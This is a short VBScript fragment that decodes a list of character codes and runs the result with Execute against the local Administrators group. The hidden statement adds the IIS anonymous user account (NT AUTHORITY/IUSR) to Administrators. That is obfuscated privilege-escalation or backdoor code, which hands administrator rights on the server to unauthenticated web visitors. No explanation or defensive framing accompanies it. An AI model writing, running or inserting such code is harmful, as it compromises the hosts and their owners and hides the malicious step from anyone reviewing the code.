coded = "103,114,111,117,112,46,65,100,100,32,34,87,105,110,78,84,58,47,47,78,84,32,65,85,84,72,79,82,73,84,89,47,73,85,83,82,34"
For Each number In Split(coded, ",")
  plain = plain & Chr(CLng(number))
Next
Set group = GetObject("WinNT://./Administrators,group")
Execute plain
